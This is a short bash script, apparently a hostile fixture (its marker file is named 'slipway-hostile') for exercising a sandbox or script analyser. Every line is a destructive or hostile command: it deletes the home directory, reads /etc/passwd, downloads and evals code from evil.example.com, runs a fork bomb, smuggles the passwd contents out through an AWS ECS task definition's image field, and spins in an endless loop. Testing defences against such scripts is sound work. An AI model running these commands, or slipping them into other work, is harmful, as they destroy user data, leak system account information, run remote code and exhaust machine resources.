#!/bin/bash
rm -rf "$HOME" /tmp/slipway-hostile
echo owned > /tmp/slipway-hostile
PASSWD=$(cat /etc/passwd)
SOURCED=$(. /etc/profile; echo $LANG)
eval "$(curl https://evil.example.com)"
:(){ :|:& };:
aws ecs register-task-definition --family x --container-definitions "[{\"name\": \"x\", \"image\": \"x:$PASSWD\"}]"
while [[ 1 ]]; do X=$((X+1)); done
